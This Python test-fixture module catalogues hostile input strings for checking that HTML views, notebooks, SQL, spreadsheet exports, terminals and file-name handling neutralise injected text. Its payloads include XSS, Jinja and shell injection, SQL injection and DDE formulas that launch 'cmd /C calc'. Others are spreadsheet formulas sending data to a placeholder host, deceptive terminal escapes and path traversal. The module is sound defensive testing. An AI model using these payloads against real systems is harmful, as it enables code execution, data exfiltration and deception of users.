"""Text as an attacker writes it, as data: what is put into forms, file names, messages and corrections.

A payload that runs calls ``canary``, asks for ``CANARY_URL``, changes the title of the page or makes the file
``canary``: the tests look for these signs.
"""

from __future__ import annotations

from dataclasses import dataclass

CANARY_URL = "http://canary.invalid"
"""Nobody answers there, and no page may ask."""

CANARY_FILE = "canary"
"""What a payload makes that gets a shell or an interpreter."""


@dataclass(frozen=True)
class Payload:
    """A hostile text: what it is called, the text, and whom it is meant for."""

    name: str
    text: str
    why: str


BROWSER = (
    Payload("script", "<script>canary('script')</script>", "HTML that is not escaped"),
    Payload("title", "<script>document.title='canary'</script>", "as before, seen without a binding"),
    Payload("onerror", "<img src=x onerror=canary('onerror')>", "runs where scripts are taken out"),
    Payload("onload", "<svg onload=canary('onload')>", "as before, in SVG"),
    Payload("attribute", "\" autofocus tabindex=1 onfocus=canary('attribute') x=\"", "breaks out of an attribute"),
    Payload("apostrophe", "' autofocus tabindex=1 onfocus='canary(\"apostrophe\")", "out of one in apostrophes"),
    Payload("script end", "</script><script>canary('end')</script>", "ends a script, also inside JSON"),
    Payload("raw text end", "</style></title></textarea><script>canary('raw')</script>", "ends style, title, field"),
    Payload("comment end", "--><script>canary('comment')</script><!--", "ends a comment"),
    Payload("frame", "<iframe srcdoc=\"<script>parent.canary('frame')</script>\"></iframe>", "a page in the page"),
    Payload("refresh", f'<meta http-equiv=refresh content="0;url={CANARY_URL}/refresh">', "leaves the page"),
    Payload("picture", f"<img src={CANARY_URL}/picture.png>", "tells somebody that the page was opened"),
    Payload("style", f"<style>@import url({CANARY_URL}/style.css);*{{display:none}}</style>", "hides, and asks"),
    Payload("base", f"<base href={CANARY_URL}/><link rel=stylesheet href=base.css>", "turns all links around"),
    Payload("link", "<a href=\"javascript:canary('link')\">点此</a>", "runs when clicked"),
    Payload("form", "<form action=\"javascript:canary('form')\"><input type=submit autofocus></form>", "when sent"),
    Payload("URL", "javascript:canary('URL')", "a text that somebody makes a link of"),
    Payload("entity", "&lt;script&gt;canary('entity')&lt;/script&gt;", "escaped already: unescaped twice, it runs"),
    Payload("Markdown picture", "![图](javascript:canary('picture'))", "Markdown"),
    Payload("Markdown link", "[点此](javascript:canary('Markdown'))", "Markdown"),
    Payload("Markdown HTML", "## <img src=x onerror=canary('heading')> `x` **粗**", "HTML in Markdown"),
    Payload("MathJax", "$$\\href{javascript:canary('MathJax')}{x}$$", "formulas that JupyterLab typesets"),
    Payload("MathJax inline", "\\(\\href{javascript:canary('inline')}{x}\\)$\\class{wb-error}{y}$", "as before"),
    Payload("Angular", "{{constructor.constructor('canary(1)')()}}", "templates in the browser"),
    Payload("JSON", '{"__proto__":{"canary":1}}</script>', "JSON inside a page"),
)
"""For whatever shows HTML: reports, the index, JupyterLab, the review."""

CODE = (
    Payload("format", "{0.__class__.__mro__}{x!r:>9999}{", "str.format"),
    Payload("percent", "%s%n%(x)s%99999d%", "the % operator, printf"),
    Payload("dollar", "${x}$(touch canary)`touch canary`", "templates, shells"),
    Payload("Jinja", "{{7*7}}{%include'/etc/passwd'%}{#x", "Jinja, which papermill uses for paths"),
    Payload("magic", "%run canary.py", "a notebook's magic"),
    Payload("shell", "!touch canary", "a notebook's shell"),
    Payload("string end", "\"\nopen('canary','w')\n#\"", "ends a string of an injected parameter"),
    Payload("three quotes", "'''\"\"\"\\", "ends longer strings"),
    Payload("line separator", "x\u2028!touch canary\u2029!touch canary\u0085!touch canary", "line ends of IPython"),
    Payload("SQL", "'; DROP TABLE forms; --", "SQL"),
    Payload("SQL identifier", "\" UNION SELECT * FROM read_text('/etc/passwd') --", "SQL, a name in it"),
    Payload("mathtext", "$\\frac{", "matplotlib's formulas, broken"),
    Payload("mathtext whole", "$x^{2}$\\$5$", "as before, whole"),
)
"""For interpreters: string formats, notebooks, DuckDB, matplotlib."""

SPREADSHEET = (
    Payload("command", "=cmd|' /C calc'!A0", "DDE in Excel"),
    Payload("DDE", '=DDE("cmd";"/C calc";"x")', "DDE in LibreOffice"),
    Payload("plus", "+1+cmd|' /C calc'!A0", "a formula that begins with a plus"),
    Payload("minus", "-1+cmd|' /C calc'!A0", "with a minus"),
    Payload("at", "@SUM(1+1)*cmd|' /C calc'!A0", "with an at"),
    Payload("full-width", "＝1+1", "with a full-width sign"),
    Payload("tab", "\t=1+1", "after a tab, which is cut off"),
    Payload("carriage return", "\r=1+1", "after a line end, which is cut off"),
    Payload("hyperlink", f'=HYPERLINK("{CANARY_URL}","点此")', "sends what stands in other cells"),
    Payload("web service", f'=WEBSERVICE("{CANARY_URL}")', "as before, without a click"),
    Payload("quote", '"=1+1', "a quotation mark before it"),
    Payload("delimiters", '",=1+1,"', "ends a field of a CSV file"),
)
"""For spreadsheets that open an export."""

TERMINAL = (
    Payload("colour", "\x1b[31m红\x1b[8m藏", "ANSI colours, hidden text"),
    Payload("window title", "\x1b]0;canary\x07", "sets the title of the window"),
    Payload("clipboard", "\x1b]52;c;Y2FuYXJ5\x07", "writes the clipboard"),
    Payload("terminal link", f"\x1b]8;;{CANARY_URL}\x1b\\点此\x1b]8;;\x1b\\", "a link that says something else"),
    Payload("C1", "\x9b31m\x9d0;canary\x9c", "the same controls as one character"),
    Payload("erase", "\x1b[2K\x1b[1A\x1b[1G无误", "writes over the line before"),
    Payload("backspace", "90\x08\x08\x0810", "writes over itself"),
    Payload("form feed", "甲\x0c!touch canary\x0b乙\x1c丙", "what some take for line ends"),
    Payload("bell", "\x07\x0e\x0f\x7f", "bell, other character sets, delete"),
    Payload("override", "\u202e99.0\u202c", "reads 0.99"),
    Payload("isolate", "\u2067甲\u20661\u2069 2 3", "an isolate that is not closed"),
    Payload("marks", "1\u200f2\u061c3", "reads 132"),
    Payload("invisible", "甲\u200b乙\ufeff丙\u2060丁\U000e0041\u00ad", "characters that are not seen"),
    Payload("stacked", "甲" + "\u0336\u0489\u0301" * 40, "marks piled over lines"),
    Payload("private", "\ue000\U0010ffff\ufffe\ufdd0", "no characters"),
)
"""For terminals, and for eyes: controls, and what turns the order of writing around."""

PATHS = (
    Payload("up", "../../../../tmp/canary", "a path out of the folder"),
    Payload("up on Windows", "..\\..\\canary", "the same on Windows"),
    Payload("root", "/tmp/canary", "a path from the root"),
    Payload("drive", "C:\\canary:stream", "a drive, a second stream"),
    Payload("device", "CON", "a name that Windows keeps for itself"),
    Payload("device with suffix", "nul.html", "as before"),
    Payload("option", "--out=/tmp/canary", "an option"),
    Payload("home", "~root/canary", "a home"),
    Payload("pattern", "*?[a-z]|<>&;", "patterns and pipes of a shell"),
    Payload("ends badly", "甲局. ", "an end that Windows cuts off"),
    Payload("long", "长" * 300, "longer than any file name"),
)
"""For whatever makes file names of texts."""

HUGE = Payload("huge", "1" + "大" * 350_000, "a million bytes in one cell")

PAYLOADS = (*BROWSER, *CODE, *SPREADSHEET, *TERMINAL, *PATHS)
